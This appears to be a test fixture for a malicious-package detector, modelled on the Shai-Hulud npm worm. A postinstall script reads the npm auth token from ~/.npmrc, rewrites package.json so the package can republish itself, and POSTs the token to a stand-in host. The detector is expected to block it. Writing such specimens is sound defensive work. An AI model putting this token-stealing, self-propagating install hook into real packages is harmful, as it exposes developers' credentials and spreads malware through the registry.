import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-worm-publish',
  from: 'Shai-Hulud, 2025: the token read, the package published again',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    'setup.js': `const fs = require('fs');
const os = require('os');
const { execSync } = require('child_process');
const token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];
const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8'));
manifest.version = '1.0.1';
manifest.scripts = { postinstall: 'node setup.js' };
fs.writeFileSync('package.json', JSON.stringify(manifest));
execSync('npm publish --dry-run', { env: { NPM_TOKEN: token } });
fetch('https://drop.invalid/', { method: 'POST', body: token });
`,
  },
  expect: 'block',
  says: ['publishes-itself'],
};
